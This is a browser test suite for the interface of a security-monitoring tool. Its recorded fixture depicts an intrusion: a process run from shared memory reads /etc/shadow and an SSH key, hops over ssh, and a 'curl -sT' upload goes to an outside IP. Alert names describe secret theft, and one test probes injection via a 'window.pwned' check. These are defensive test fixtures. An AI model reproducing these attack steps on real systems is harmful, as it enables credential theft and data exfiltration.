// SPDX-License-Identifier: Apache-2.0
// cases-fleet - each view on a real collector that holds the recorded fleet (fleet-story.mjs).
import { rows, ask } from './cases-common.mjs';
import { startEmpty } from './fleet.mjs';
import { makeOpens } from './fleet-story.mjs';
import { assert, until } from './harness.mjs';

export const inUrl = (page, name) => page.evaluate((n) => new URLSearchParams(location.search).get(n) ?? '', name);
export const path = (params) => `/?${new URLSearchParams(params)}`;

/** The number that @locator's text begins with. */
const numberOf = async (locator) => Number((await locator.innerText()).replace(/[^\d].*$/s, '').replace(/,/g, '') || NaN);

const searchTests = (world) => [
	['facets_given_fleet_when_a_value_is_kept_and_another_left_out_then_counts_and_rows_follow', async () => {
		const page = await world.open(path({ since: '-24h' }));
		const facet = (name) => page.getByRole('region', { name, exact: true });
		await facet('process.name').getByRole('button', { name: /^Keep process.name x86_64-linux-gnu-gcc-12, / }).waitFor();
		assert.equal(await facet('host.name').locator('.facet-distinct').innerText(), '6');
		await facet('host.name').getByRole('button', { name: /^Keep host.name db-1, / }).click();
		await until('the query has it', async () => (await inUrl(page, 'q')) === 'host.name == "db-1"');
		await until('counts are of it', async () => (await facet('host.name').locator('.facet-value').count()) === 1);
		await facet('process.name').locator('.facet-value').first().hover();
		await facet('process.name').getByRole('button', { name: 'Leave out postgres', exact: true }).click();
		await until('the query leaves it out', async () => (await inUrl(page, 'q')).includes('process.name != "postgres"'));
		await until('its count is gone', async () => !(await facet('process.name').innerText()).includes('postgres'));
		await facet('process.name').getByRole('button', { name: /^Keep process.name dash, / }).waitFor();
	}],
	['facets_given_a_field_when_added_widened_and_closed_then_url_and_panel_follow', async () => {
		const page = await world.open(path({ since: '-24h', q: 'file where true' }));
		const panel = page.getByRole('complementary', { name: 'Values' });
		await panel.getByLabel('Count another field').fill('file.path');
		const added = page.getByRole('region', { name: 'file.path', exact: true });
		await added.locator('.facet-value').first().waitFor();
		assert.match(await inUrl(page, 'facets'), /,file\.path$/);
		await added.getByRole('button', { name: /^[\d,]+ more$/ }).click();
		await until('more are told', async () => (await added.locator('.facet-value').count()) > 20);
		await page.keyboard.press('Escape');
		await page.locator('.vlist').focus();
		await page.keyboard.press('v');
		await panel.waitFor({ state: 'detached' });
		assert.equal(await inUrl(page, 'facets'), '-');
	}],
	['histogram_given_a_field_when_chosen_then_split_with_a_legend_that_filters', async () => {
		const page = await world.open(path({ since: '-1h' }));
		const region = page.getByRole('region', { name: 'process.name', exact: true });
		await region.hover();
		await region.getByRole('button', { name: 'Histogram by process.name' }).click();
		const legend = page.getByRole('group', { name: 'Colours by process.name' });
		await legend.getByRole('button', { name: 'all others' }).waitFor();
		assert.equal(await inUrl(page, 'by'), 'process.name');
		assert.equal(await legend.locator('.swatch').count(), 8);
		await legend.getByRole('button', { name: 'make', exact: true }).click();
		await until('only make', async () => (await inUrl(page, 'q')) === 'process.name == "make"');
		await until('one colour is left', async () => (await legend.locator('.swatch').count()) === 1);
		await legend.getByRole('button', { name: 'Histogram of all events' }).click();
		await legend.waitFor({ state: 'detached' });
	}],
	['completion_given_a_value_that_no_row_shows_when_typed_then_the_collector_knows_it', async () => {
		const page = await world.open(path({ since: '-24h', q: 'process.name == "make"' }));
		await rows(page).first().waitFor();
		await page.locator('#query').fill('');
		await page.locator('#query').pressSequentially('process.name == "kwor');
		await page.getByRole('option', { name: /^kworkerd/ }).waitFor();
		await page.keyboard.press('Tab');
		assert.equal(await page.locator('#query').inputValue(), 'process.name == "kworkerd"');
	}],
	['drawer_given_event_when_copied_then_query_curl_and_rtsecctl_find_it_again', async () => {
		const page = await world.open(path({ since: '-24h', q: 'process.name == "kworkerd" and event.action == "exec"' }));
		await page.evaluate(() => { navigator.clipboard.writeText = async (t) => { window.copied = t; }; });
		await rows(page).first().click();
		const copies = page.getByRole('group', { name: 'Copy as' });
		const copy = async (name) => {
			await page.evaluate(() => { window.copied = ''; });
			await copies.getByRole('button', { name }).click();
			return until('it is copied', () => page.evaluate(() => window.copied));
		};
		const q = await copy(/the query/);
		assert.match(await copy(/rtsecctl/), /^rtsecctl query 'event\.sequence == \d+ and host\.name == "web-1" and .*' --since \S+Z --until \S+Z -o json$/);
		assert.match(await copy(/curl/), /^curl -sG -H "Authorization: Bearer \$RTSEC_TOKEN" --data-urlencode 'q=event\./);
		assert.match(await copy(/link/), /\/\?q=event/);
		await page.keyboard.press('Escape');
		await ask(page, q);
		await until('one event', async () => (await numberOf(page.locator('.status strong'))) === 1);
	}],
];

const pivotTests = (world) => [
	['drawer_given_a_connection_when_pivoted_then_to_both_sides_of_the_flow_and_to_the_host', async () => {
		const q = 'process.name == "pg_dump" and event.action == "connection_attempted"';
		const page = await world.open(path({ since: '-24h', q }));
		await rows(page).first().click();
		await page.getByRole('complementary', { name: 'Event' }).getByRole('button', { name: 'Flow: all its events' }).click();
		await until('the query is of the flow', async () => /^network\.community_id == "1:/.test(await inUrl(page, 'q')));
		await until('both sides are there', async () => new Set(await rows(page).locator('.c-process').allInnerTexts()).size === 2);
		await page.goBack();
		await rows(page).first().click();
		await page.getByRole('complementary', { name: 'Event' }).getByRole('button', { name: 'Host: all its events' }).click();
		await until('the query is of the host', async () => (await inUrl(page, 'q')) === 'host.name == "db-1"');
	}],
	['drawer_given_an_open_event_when_its_link_is_opened_elsewhere_then_the_same_event_is_open', async () => {
		const drawer = () => world.page.getByRole('complementary', { name: 'Event' });
		const links = [
			[{ since: '-24h', q: 'process.name == "sudo" and event.action == "uid_change"' }, '.vlist-body .hit:not(.pending)', (page) => rows(page).first().click()],
			[{ view: 'process', id: await entityOf(world, 'sudo') }, '.dids .did[data-index]', (page) => page.locator('.did', { hasText: 'uid_change' }).click()],
		];
		for (const [query, ready, open] of links) {
			let page = await world.open(path(query), { ready });
			await open(page);
			await drawer().getByText('uid_change').first().waitFor();
			await until('the URL has it', async () => /^\d{4}-\S+Z\/db-1:\S+:\d+$/.test(await inUrl(page, 'event')));
			const link = await page.evaluate(() => location.pathname + location.search);
			page = await world.open(link, { ready: '.drawer' });
			await drawer().getByText('uid_change').first().waitFor();
			await page.keyboard.press('Escape');
			await drawer().waitFor({ state: 'detached' });
			assert.equal(await inUrl(page, 'event'), '');
		}
	}],
	['gap_given_lost_events_on_a_real_collector_when_shown_then_band_count_and_marked_rows', async () => {
		const page = await world.open(path({ since: '-15m', node: 'web-2', order: 'asc' }));
		await page.getByText('1,284 events lost in 1 gap').waitFor();
		await until('the histogram says it', async () => /1,284 events lost in 1 gap/.test(await page.locator('.histogram-plot').getAttribute('aria-label')));
		await until('rows of that time are marked', async () => (await page.locator('.vlist-body .hit.in-gap').count()) > 0);
		assert.ok((await page.locator('.vlist-body .hit:not(.in-gap)').count()) > 0);
	}],
	['hostile_given_a_value_of_a_megabyte_when_found_and_opened_then_cut_until_asked_for', async () => {
		const page = await world.open(path({ since: '-24h', q: 'process.executable : "/tmp/evil*" and event.action == "exec"' }));
		const row = rows(page).first();
		await row.waitFor();
		assert.ok((await row.innerText()).length < 3000);
		await row.click();
		const drawer = page.getByRole('complementary', { name: 'Event' });
		const more = drawer.getByRole('button', { name: /show more \((999 kB|1\.0 MB) left\)/ }).first();
		await more.waitFor();
		assert.ok((await drawer.innerText()).length < 20_000);
		await more.click();
		await until('more is shown', async () => (await drawer.innerText()).length > 20_000);
		assert.equal(await page.evaluate(() => window.pwned), undefined);
	}],
	['empty_given_a_new_collector_when_each_view_is_opened_then_it_teaches_the_next_step', async () => {
		const empty = await startEmpty({ bin: world.bin });
		world.other = empty.url;
		for (const [view, words] of [['search', /event/], ['timeline', /No event/], ['process', /No process is chosen/], ['incidents', /No incident/], ['alerts', /Nothing is open/], ['rare', /Nothing/], ['nodes', /No node has reported/]]) {
			const page = await world.open(path(view === 'search' ? {} : { view }), { url: empty.url, token: empty.token, ready: '.empty' });
			const box = page.locator('.empty');
			assert.match(await box.locator('h2').innerText(), words, view);
			assert.ok((await box.locator('p').first().innerText()).length > 20, view);
			assert.ok((await box.locator('button, code').count()) > 0, `${view} offers nothing`);
		}
		const page = await world.open(path({ view: 'settings', part: 'outputs' }), { url: empty.url, token: empty.token, ready: '.sample' });
		await page.getByText('outputs.yaml').first().waitFor();
		await world.page.close();
		await empty.close();
	}],
];

/** Entity id of the newest process that ran @name. */
export async function entityOf(world, name) {
	const q = new URLSearchParams({ q: `process where process.name == "${name}" and event.action == "exec"`, since: '-24h', limit: 1 });
	const answer = await fetch(`${world.url}/api/v1/search?${q}`, { headers: { Authorization: `Bearer ${world.token}` } });
	return (await answer.json()).hits[0].process.entity_id;
}

/** CPU time in ms that the page's own thread took for each frame while @step ran in each. */
export async function costOfFrames(page, step, frames = 60) {
	const cdp = await page.context().newCDPSession(page);
	await cdp.send('Performance.enable', { timeDomain: 'threadTicks' }); /* other work on the machine does not count */
	const busy = async () => (await cdp.send('Performance.getMetrics')).metrics.find((m) => m.name === 'TaskDuration').value;
	const before = await busy();
	await page.evaluate(async ([text, n]) => {
		const run = new Function('i', text);
		for (let i = 0; i < n; i++) {
			run(i);
			await new Promise(requestAnimationFrame);
		}
	}, [step, frames]);
	return ((await busy()) - before) * 1000 / frames;
}

const treeRow = (page, text) => page.locator('.tree-row:not(.head)', { hasText: text });

const processTests = (world) => [
	['process_given_event_when_pivoted_then_tree_with_badges_and_all_it_did', async () => {
		const page = await world.open(path({ since: '-24h', q: 'process.name == "kworkerd" and event.action == "exec"' }));
		await rows(page).first().click();
		await page.getByRole('button', { name: /^Its process/ }).click();
		await page.getByRole('heading', { name: 'kworkerd', exact: true }).waitFor();
		const names = page.locator('.tree-name b');
		await until('ancestors and descendants', async () => (await names.allInnerTexts()).join() === 'systemd,python3.11,dash,dash,kworkerd,ssh');
		await treeRow(page, 'kworkerd').getByRole('img', { name: '5 file events' }).waitFor();
		await treeRow(page, 'kworkerd').getByRole('img', { name: /network event/ }).waitFor();
		await treeRow(page, 'kworkerd').getByRole('img', { name: /^high alert: A program is started from shared memory; medium alert/ }).waitFor();
		const facts = page.getByRole('complementary', { name: 'Process' }).locator('.facts');
		assert.match(await facts.innerText(), /SHA-256\s+[0-9a-f]{64}/);
		await facts.getByText(/^on 1 node, started 1 time since/).nth(1).waitFor(); /* by name and by hash */
		const did = page.getByRole('grid', { name: 'What it did' }).getByRole('row');
		await did.filter({ hasText: '/srv/app/.ssh/id_ed25519' }).waitFor();
		assert.match(await did.filter({ hasText: '/etc/shadow' }).innerText(), /failed[\s\S]*EACCES/);
		await did.filter({ hasText: '/etc/shadow' }).click();
		await page.getByRole('complementary', { name: 'Event' }).getByText('file.path', { exact: true }).waitFor();
		await page.keyboard.press('Escape');
		await page.getByRole('button', { name: /^With what the 1 process below/ }).click();
		await did.filter({ hasText: '10.0.4.21:22' }).first().waitFor();
		assert.equal(await inUrl(page, 'below'), '1');
	}],
	['process_given_tree_when_walked_by_keys_then_chosen_folded_and_made_the_root', async () => {
		const page = await world.open(path({ view: 'process', id: await entityOf(world, 'sudo') }), { ready: '.tree-row.active' });
		await treeRow(page, 'sudo -n bash -p').getByRole('img', { name: 'runs as root, unlike its parent' }).waitFor();
		await page.keyboard.press('j');
		await until('the next is chosen', async () => (await page.locator('.tree-row.active .tree-name').innerText()).startsWith('bash'));
		const count = () => page.locator('.tree-row:not(.head)').count();
		const before = await count();
		await page.keyboard.press('h');
		await page.locator('.tree-row.active[aria-expanded="false"]').waitFor();
		assert.ok((await count()) < before);
		await page.keyboard.press('l');
		await until('all are back', async () => (await count()) === before);
		await page.keyboard.press('o');
		await page.getByRole('heading', { name: 'bash', exact: true }).first().waitFor();
		await page.goBack();
		await page.getByRole('heading', { name: 'sudo', exact: true }).first().waitFor();
	}],
	['process_given_five_thousand_below_when_scrolled_then_frames_keep_up', async () => {
		const page = await world.open(path({ view: 'process', id: await entityOf(world, 'make') }), { ready: '.tree-row.active' });
		await page.getByText('5,000 processes below it').waitFor();
		assert.ok((await page.locator('.tree-row').count()) < 80);
		const ms = await costOfFrames(page, "document.querySelector('.tree .vlist').scrollTop += 90");
		console.log(`     ${ms.toFixed(1)} ms CPU of the page's thread a frame`);
		assert.ok(ms > 0.1 && ms < 20, `${ms} ms a frame`); /* 20 ms: 50 frames/s */
		await page.locator('.tree .vlist').evaluate((el) => { el.scrollTop = el.scrollHeight; });
		await treeRow(page, 'kernel/src-4999.c').waitFor();
	}],
	['process_given_unknown_id_when_opened_then_says_what_to_do', async () => {
		const page = await world.open(path({ view: 'process', id: '00000000000000ff' }), { ready: '.empty' });
		await page.getByRole('heading', { name: 'Nothing is stored of this process' }).waitFor();
		await page.getByRole('button', { name: 'Programs that were started' }).click();
		await rows(page).first().waitFor();
	}],
];

const hopTests = (world) => [
	['process_given_hosts_when_followed_then_from_a_row_to_a_process_to_another_host', async () => {
		const page = await world.open(path({ since: '-24h', q: 'process.name == "kworkerd" and event.action == "exec"' }));
		await rows(page).first().click();
		await page.getByRole('button', { name: /^Its process/ }).click();
		await page.getByRole('button', { name: 'Tree over hosts' }).click();
		await page.getByText('3 hosts').waitFor();
		await page.getByRole('img', { name: /^reached over the network: ssh on web-1 → sshd on db-1, port 22/ }).first().waitFor();
		await treeRow(page, 'sudo -n bash -p').click();
		const panel = page.getByRole('complementary', { name: 'Process' });
		await panel.getByText('457 on db-1').waitFor();
		await panel.getByRole('button', { name: /^Make the tree about/ }).click();
		await page.getByRole('heading', { name: 'sudo', exact: true }).first().waitFor();
		await until('its own ancestors on the first host', async () => (await treeRow(page, 'kworkerd').count()) === 1);
	}],
	['hops_given_an_intrusion_when_shown_then_bars_by_host_and_an_arrow_for_each_connection', async () => {
		const page = await world.open(path({ view: 'process', id: await entityOf(world, 'kworkerd'), as: 'hops' }), { ready: '.hop-label' });
		assert.deepEqual(await page.locator('.hop-host').allInnerTexts().then((l) => l.map((t) => t.split('\n')[0])), ['web-1', 'db-1', 'bastion']);
		const hops = page.getByRole('list', { name: 'Hops' }).getByRole('listitem');
		assert.equal(await page.locator('.hop-arrow').count(), await hops.count());
		assert.match((await hops.allInnerTexts()).join('\n'), /ssh on web-1 → sshd on db-1, port 22[\s\S]*ssh on db-1 → sshd on bastion, port 22/);
		const bars = await page.locator('.hop-bar').count();
		assert.equal(bars, await page.locator('.hop-label').count());
		await page.locator('.hop-label', { hasText: 'curl -sT' }).click();
		await page.getByRole('complementary', { name: 'Process' }).getByText('on bastion').waitFor();
		const box = await page.locator('.hops-chart').boundingBox();
		await page.mouse.move(box.x + box.width * 0.2, box.y + 100);
		await page.mouse.down();
		await page.mouse.move(box.x + box.width * 0.5, box.y + 120, { steps: 4 });
		await page.mouse.up();
		await until('the time is in the URL', async () => Number(await inUrl(page, 'to')) > Number(await inUrl(page, 'from')));
		await page.getByRole('button', { name: 'whole' }).click();
		await until('and out of it', async () => (await inUrl(page, 'from')) === '');
	}],
];

const nodeTests = (world) => [
	['nodes_given_fleet_when_shown_then_health_lag_loss_and_cost_and_a_node_opens', async () => {
		const page = await world.open(path({ view: 'nodes' }), { ready: '.data-row' });
		await page.getByRole('heading', { name: '6 nodes' }).waitFor();
		const row = page.getByRole('row', { name: /web-2/ });
		assert.match(await row.innerText(), /web-2[\s\S]*(up|silent)[\s\S]*1,284/);
		await page.getByRole('columnheader', { name: 'Lost' }).getByRole('button').click();
		await until('the most lost is first', async () => (await page.getByRole('row').nth(1).innerText()).includes('web-2'));
		await row.click();
		const panel = page.getByRole('complementary', { name: 'Node' });
		await panel.getByRole('listitem').filter({ hasText: 'exec tp/sched' }).waitFor();
		assert.match(await panel.innerText(), /6\.1\.0-25-amd64 x86_64/);
		await panel.getByRole('button', { name: 'What it lost' }).click();
		await until('the gap is found', async () => (await rows(page).count()) === 1 && (await rows(page).first().innerText()).includes('1,284 events lost'));
	}],
];

const alertPanel = (page) => page.getByRole('complementary', { name: 'Alert' });
const alertRow = (page, title) => page.locator('.data-row[data-index]', { hasText: title });

const alertTests = (world) => [
	['alerts_given_an_intrusion_when_read_then_from_the_inbox_to_the_evidence_to_the_other_hosts', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await until('the head counts them', async () => (await page.locator('.nav-count').innerText()) === '5');
		await alertRow(page, 'A program is started from shared memory').click();
		const panel = alertPanel(page);
		const chain = panel.getByRole('list', { name: 'Who started it' }).getByRole('listitem');
		await until('who started it', async () => (await chain.count()) === 5);
		assert.match(await chain.last().innerText(), /^kworkerd/);
		await panel.getByRole('button', { name: /exec/ }).click();
		await page.getByRole('complementary', { name: 'Event' }).getByText('/dev/shm/.cache/kworkerd').first().waitFor();
		await page.keyboard.press('Escape');
		await panel.getByRole('button', { name: /^Where it came from and went/ }).click();
		await page.locator('.hop-host', { hasText: 'bastion' }).waitFor();
		await page.locator('.hop-label', { hasText: 'bash -p' }).last().click();
		const process = page.getByRole('complementary', { name: 'Process' });
		await process.getByRole('list', { name: 'Alerts' }).getByText('A shell reads the shadow file').click();
		await until('its alert is chosen', async () => (await inUrl(page, 'view')) === 'alerts');
		await alertPanel(page).getByText('/etc/shadow').first().waitFor();
	}],
	['incident_given_alerts_on_three_hosts_when_one_is_read_then_all_of_it_and_why_to_its_end', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await alertRow(page, 'A shell reads the shadow file').click();
		const together = alertPanel(page).getByRole('region', { name: 'Belongs together' });
		await together.getByText('5 alerts on 3 nodes, score 100').waitFor();
		const told = await together.getByRole('listitem').allInnerTexts();
		assert.match(told[0], /A tool sends[\s\S]*web-1: where it begins/);
		assert.match(told[3], /A shell reads[\s\S]*db-1: descends from the process kworkerd over 1 connection between nodes/);
		assert.match(told[4], /A tool sends[\s\S]*bastion: descends from the process kworkerd over 2 connections between nodes/);
		await together.getByRole('button', { name: /^The incident: step by step/ }).click();
		const story = page.getByRole('region', { name: 'What happened' });
		await story.locator('li.active', { hasText: 'A shell reads the shadow file' }).waitFor();
		assert.equal(await story.getByRole('listitem').count(), 5);
		await until('a pin for each alert', async () => (await page.locator('.hop-pin').count()) === 5);
		assert.deepEqual((await page.locator('.hop-host').allInnerTexts()).map((t) => t.split('\n')[0]), ['web-1', 'db-1', 'bastion']);
		await page.locator('.hop-label.active', { hasText: 'bash -p' }).waitFor();
		await page.getByRole('link', { name: /^low alert: A tool sends/ }).last().press('Enter');
		await story.locator('li.active', { hasText: 'https://203.0.113.66/u' }).waitFor();
		await story.getByRole('button', { name: /^The alert: evidence/ }).click();
		await alertPanel(page).getByText('https://203.0.113.66/u').first().waitFor();
	}],
	['incidents_given_the_gravest_when_walked_by_keys_then_read_acknowledged_and_in_the_url', async () => {
		const page = await world.open(path({ view: 'incidents' }), { ready: '.data-row[data-index]' });
		const row = page.getByRole('grid', { name: 'Incidents' }).getByRole('row').nth(1);
		assert.match(await row.innerText(), /100[\s\S]*critical[\s\S]*A shell reads the shadow file[\s\S]*web-1 → db-1 → bastion/);
		await page.keyboard.press('j');
		await page.locator('.data-row.active').waitFor();
		await page.keyboard.press('Enter');
		const story = page.getByRole('region', { name: 'What happened' });
		await story.getByRole('listitem').first().waitFor();
		for (let i = 0; i < 3; i++) await page.keyboard.press('j');
		await story.locator('li.active', { hasText: 'A private key is read' }).waitFor();
		const link = await page.evaluate(() => location.pathname + location.search);
		await page.keyboard.press('a');
		await page.locator('.toast').getByText('5 alerts acknowledged').waitFor();
		await story.locator('li.active').getByText(/^acknowledged/).waitFor();
		const again = await world.open(link, { ready: '.story li.active' });
		await again.locator('.story li.active', { hasText: 'A private key is read' }).waitFor();
		const open = await (await fetch(`${world.url}/api/v1/alerts?status=acknowledged`, { headers: { Authorization: `Bearer ${world.token}` } })).json();
		assert.equal(open.alerts.length, 5);
		for (const a of open.alerts) await fetch(`${world.url}/api/v1/alerts/${a.id}/reopen`, { method: 'POST', headers: { Authorization: `Bearer ${world.token}`, 'Content-Type': 'application/json' }, body: '{}' });
		await again.keyboard.press('Escape');
		await again.keyboard.press('Escape');
		await until('the list again', async () => (await inUrl(again, 'sel')) === '');
	}],
	['alerts_given_one_when_worked_on_by_keys_then_acknowledged_noted_closed_and_opened_again', async () => {
		const page = await world.open(path({ view: 'alerts' }), { ready: '.data-row[data-index]' });
		await alertRow(page, 'A private key is read').click();
		const panel = alertPanel(page);
		await panel.getByRole('button', { name: /^Acknowledge/ }).waitFor();
		await page.keyboard.press('a');
		await panel.getByText(/^acknowledged/).waitFor();
		await until('it leaves the open ones', async () => (await alertRow(page, 'A private key is read').count()) === 0);
		await page.keyboard.press('n');
		await panel.getByLabel('Note', { exact: true }).pressSequentially('the key of the shop');
		await page.keyboard.press('Enter');
		await panel.getByText('the key of the shop').waitFor();
		await panel.getByLabel('Note', { exact: true }).blur();
		await page.keyboard.press('c');
		await panel.getByText(/^closed/).waitFor();
		await page.getByRole('group', { name: 'Status' }).getByRole('button', { name: 'Closed' }).click();
		await alertRow(page, 'A private key is read').click();
		await panel.getByRole('button', { name: 'Open it again' }).click();
		await panel.getByText(/^open/).waitFor();
		await until('it is open', async () => (await page.locator('.nav-count').innerText()) === '5');
	}],
	['alerts_given_one_when_excepted_then_the_rule_has_the_exception', async () => {
		const page = await world.open(path({ view: 'alerts', level: 'critical' }), { ready: '.data-row[data-index]' });
		assert.equal(await page.locator('.data-row[data-index]').count(), 1);
		await alertRow(page, 'A shell reads the shadow file').click();
		await alertPanel(page).getByRole('button', { name: /^Exception/ }).click();
		await alertPanel(page).getByLabel('Why').fill('the audit');
		await alertPanel(page).getByLabel('Your name').fill('alice');
		await alertPanel(page).getByRole('button', { name: 'Add the exception' }).click();
		await page.locator('.toast').getByText('The rule leaves it out').waitFor();
		await alertPanel(page).getByRole('button', { name: 'The rule', exact: true }).click();
		await rulePanel(page).getByRole('tab', { name: 'Exceptions (1)' }).click();
		await rulePanel(page).getByText(/the audit · by alice · for ever/).waitFor();
		await rulePanel(page).getByRole('button', { name: 'Remove the exception' }).click();
		await rulePanel(page).getByRole('button', { name: 'Really: Remove the exception' }).click();
		await rulePanel(page).getByRole('tab', { name: 'Exceptions (0)' }).waitFor();
	}],
	['alerts_given_pins_on_the_timeline_when_clicked_then_the_alert_opens', async () => {
		const page = await world.open(path({ view: 'timeline', since: '-15m' }), { ready: '.lane' });
		await page.getByText(/^\d alerts$/).waitFor();
		await until('a grave one is drawn', () => drawn(page, '--danger'));
		const q = await fetch(`${world.url}/api/v1/alerts?level=critical`, { headers: { Authorization: `Bearer ${world.token}` } });
		const alert = (await q.json()).alerts[0];
		await page.goto(`${world.url}${path({ view: 'timeline', since: new Date(Date.parse(alert.first) - 1000).toISOString(), until: new Date(Date.parse(alert.first) + 1000).toISOString() })}`);
		const lane = page.locator('.lane', { hasText: 'db-1' });
		await lane.waitFor();
		await page.getByText('1 alert', { exact: true }).waitFor();
		const [canvas, row] = [await page.locator(TIMELINE).boundingBox(), await lane.boundingBox()];
		await page.mouse.click(canvas.x + canvas.width / 2, row.y + 8);
		await alertPanel(page).locator('h2', { hasText: 'A shell reads the shadow file' }).waitFor();
	}],
];

const settingsTests = (world) => [
	['settings_given_admin_when_a_token_is_made_then_it_opens_until_revoked_and_the_log_tells', async () => {
		const page = await world.open(path({ view: 'settings', part: 'tokens' }), { ready: '.data-row[data-index]' });
		await page.getByLabel('For', { exact: true }).fill('a dashboard');
		await page.getByRole('button', { name: 'Make the token' }).click();
		const secret = (await page.locator('.secret code').innerText()).trim();
		const asked = async () => (await fetch(`${world.url}/api/v1/me`, { headers: { Authorization: `Bearer ${secret}` } })).status;
		assert.equal(await asked(), 200);
		await page.getByRole('button', { name: 'Revoke a dashboard' }).click();
		await page.getByRole('button', { name: 'Really: Revoke a dashboard' }).click();
		await page.getByRole('row', { name: /a dashboard/ }).getByText('revoked').waitFor();
		assert.equal(await asked(), 401);
		await page.getByRole('button', { name: 'Audit log' }).click();
		await page.getByRole('grid', { name: 'Audit log' }).getByRole('row', { name: /tests admin/ }).first().waitFor();
	}],
	['roles_given_each_when_every_view_is_opened_then_only_what_it_may_is_shown_and_nothing_is_refused', async () => {
		const entity = await entityOf(world, 'kworkerd');
		/* each view, what shows that it is there, and what in it writes */
		const views = [
			[{}, '.vlist-body .hit', []], [{ view: 'timeline' }, '.lane', []], [{ view: 'process', id: entity }, '.tree-row.active', []],
			[{ view: 'incidents', sel: '1' }, '.hop-pin', [/^Acknowledge 5 alerts/, /^Close 5 alerts/]],
			[{ view: 'alerts', status: 'all', sel: '2' }, '.evidence li', [/^Acknowledge:/, /^Close \(c\)/, /^Exception:/, /^Add the note/]],
			[{ view: 'rules', sel: 'shm-exec' }, '.rule-panel .tabs', [/^Delete the rule/, /^It is enabled/, /^Write a new rule/]],
			[{ view: 'rare' }, '.data-row[data-index]', []],
			[{ view: 'nodes', sel: 'web-2' }, '.tiers li', [/^Shut web-2 out/, /^Add a node/]],
			[{ view: 'settings' }, '.facts', []], [{ view: 'settings', part: 'storage' }, '.days li, .facts', [/^As configured/]],
			[{ view: 'settings', part: 'outputs' }, '.output', [/^Silence chat/, /^Send a made-up alert to chat/, /^Tell the dead letters of chat again/]],
		];
		const may = {
			viewer: [], analyst: ['Acknowledge 5 alerts', 'Close 5 alerts', 'Acknowledge: I', 'Close (c)', 'Exception: the', 'Add the note', 'Silence chat'],
			operator: ['Delete the rule', 'It is enabled', 'Write a new rule', 'Shut web-2 out', 'Add a node', 'Send a made-up alert to chat', 'Tell the dead letters of chat again'],
			admin: [],
		};
		const parts = { viewer: 'You,Storage,Outputs', analyst: 'You,Storage,Outputs', operator: 'You,Storage,Outputs,New node', admin: 'You,Storage,Outputs,New node,Tokens,Audit log' };
		const allowed = [];
		for (const role of ['viewer', 'analyst', 'operator', 'admin']) {
			allowed.push(...may[role]);
			const refused = [];
			for (const [query, ready, writing] of views) {
				const page = await world.open(path(query), { token: world.fleet.tokens[role], ready, seen: (r) => { if (r.status() === 403) refused.push(r.url()); } });
				await page.waitForFunction(() => document.documentElement.dataset.role); /* it is known who asks */
				for (const name of writing) {
					const want = allowed.some((w) => name.test(w));
					await until(`${role} in ${query.view}: ${name} is ${want ? '' : 'not '}shown`, async () => ((await page.getByRole('button', { name }).count()) > 0) === want);
				}
				if (query.view === 'settings' && !query.part) assert.equal((await page.getByRole('navigation', { name: 'Settings' }).getByRole('button').allInnerTexts()).join(), parts[role]);
				if (query.part === 'storage') assert.equal(await page.getByLabel('Keep days').count(), role === 'admin' ? 1 : 0);
			}
			assert.deepEqual(refused, [], role);
		}
	}],
	['settings_given_admin_when_days_are_kept_for_another_time_then_what_goes_is_marked_first_and_it_is_undone', async () => {
		const page = await world.open(path({ view: 'settings', part: 'storage' }), { ready: '.days li' });
		const days = page.getByRole('list', { name: 'Days' }).getByRole('listitem');
		await page.getByLabel('Keep bytes').fill('1K');
		await until('all but today go', async () => {
			const today = new Date().toISOString().slice(0, 10);
			const told = await days.allInnerTexts();
			return told.length > 0 && told.every((t) => /goes/.test(t) === !t.includes(today));
		});
		await page.getByLabel('Keep bytes').fill('many');
		await page.getByText('Bytes: such as 50G').waitFor();
		await page.getByLabel('Keep bytes').fill('0');
		await page.getByLabel('Keep days').fill('400');
		await page.getByRole('button', { name: 'Keep 400 days', exact: true }).click();
		await page.getByRole('button', { name: 'Really: Keep 400 days' }).click();
		await page.getByText(/by tests admin$/).waitFor();
		const asked = async () => (await (await fetch(`${world.url}/api/v1/retention`, { headers: { Authorization: `Bearer ${world.token}` } })).json()).keep_days;
		assert.equal(await asked(), 400);
		await page.getByRole('button', { name: 'As configured: 30 days' }).click();
		await page.getByText('by the options of the collector').waitFor();
		assert.equal(await asked(), 30);
	}],
	['outputs_given_dead_letters_when_told_again_then_they_get_through_and_a_test_and_a_silence', async () => {
		const page = await world.open(path({ view: 'settings', part: 'outputs' }), { ready: '.output' });
		const chat = page.getByRole('article', { name: 'chat' });
		await chat.getByText(/alerts did not get through/).waitFor();
		await chat.getByRole('button', { name: 'Show the dead letters of chat' }).click();
		await chat.getByText(/answered 503/).nth(1).waitFor();
		world.fleet.hook.status = 200;
		await chat.getByRole('button', { name: 'Tell the dead letters of chat again' }).click();
		await until('all got through', () => world.fleet.hook.got.some((a) => a.rule.id === 'shadow-read'));
		await until('none is dead', async () => {
			await page.reload();
			await chat.waitFor();
			return (await chat.getByText(/did not get through/).count()) === 0;
		});
		await chat.getByRole('button', { name: 'Send a made-up alert to chat' }).click();
		await page.locator('.toast').getByText('chat has taken a made-up alert').waitFor();
		await chat.getByRole('button', { name: 'Silence chat for a time' }).click();
		await chat.getByLabel('Rule').fill('to-internet');
		await chat.getByLabel('Why').fill('backups');
		await chat.getByRole('button', { name: 'Silence chat', exact: true }).click();
		const silence = chat.getByRole('list', { name: 'Silences' }).getByRole('listitem');
		await silence.getByText(/to-internet/).waitFor();
		assert.match(await silence.innerText(), /by tests admin: backups/);
		await silence.getByRole('button', { name: /^End the silence/ }).click();
		await silence.getByRole('button', { name: /^Really: End/ }).click();
		await silence.waitFor({ state: 'detached' });
	}],
	['settings_given_operator_when_a_join_token_is_made_then_the_command_for_the_node', async () => {
		const page = await world.open(path({ view: 'settings', part: 'node' }), { token: world.fleet.tokens.operator, ready: '.token-form' });
		await page.getByRole('button', { name: 'Make a join token' }).click();
		assert.match(await page.locator('.secret code').innerText(), /^rtsec-sensor enroll --collector 127\.0\.0\.1:\d+ --token \S+/);
	}],
	['nodes_given_operator_when_a_node_is_added_then_the_command_with_its_token_is_made_in_the_page', async () => {
		const page = await world.open(path({ view: 'nodes' }), { token: world.fleet.tokens.operator, ready: '.data-row[data-index]' });
		await page.getByRole('button', { name: 'Add a node' }).click();
		const panel = page.getByRole('complementary', { name: 'New node' });
		await panel.getByLabel('Good for').fill('soon');
		await panel.getByRole('button', { name: 'Make a join token' }).click();
		await panel.getByRole('alert').waitFor();
